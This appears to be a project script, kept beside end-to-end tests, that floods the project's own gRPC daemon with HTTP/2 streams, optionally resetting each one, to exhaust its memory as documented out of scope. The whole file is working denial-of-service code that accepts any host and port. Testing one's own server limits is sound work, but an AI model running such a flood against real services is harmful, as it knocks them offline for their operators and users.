#!/usr/bin/env python3
"""Takes a daemon's memory where gRPC has no limit (docs/operations.md, "Out of scope"): a connection that never
acknowledges HTTP/2's settings opens calls without a message, and with --reset ends each of them at once.
usage: flood.py HOST:PORT [--reset]     until somebody has had enough"""

import pathlib
import struct
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "e2e"))
from http2_helpers import PREFACE, SETTINGS, connect, frame, open_call  # noqa: E402

CALLS = 200_000
METHOD = "/kvcompress.v1.KvCompression/Metrics"
RST_STREAM, CANCEL = 3, 8

address, *resets = sys.argv[1:]


def call(stream):
    end = frame(RST_STREAM, struct.pack(">I", CANCEL), 0, stream) if resets else b""
    return open_call(stream, METHOD) + end


connection = connect(address)
connection.sendall(PREFACE + frame(SETTINGS))
sent = 0
try:
    for sent in range(0, CALLS, 100):
        connection.sendall(b"".join(call(2 * number + 1) for number in range(sent, sent + 100)))
    print(f"{CALLS} calls")
except TimeoutError:
    print(f"not read any more after {sent} calls")
except OSError:
    print(f"the connection is gone after {sent} calls")
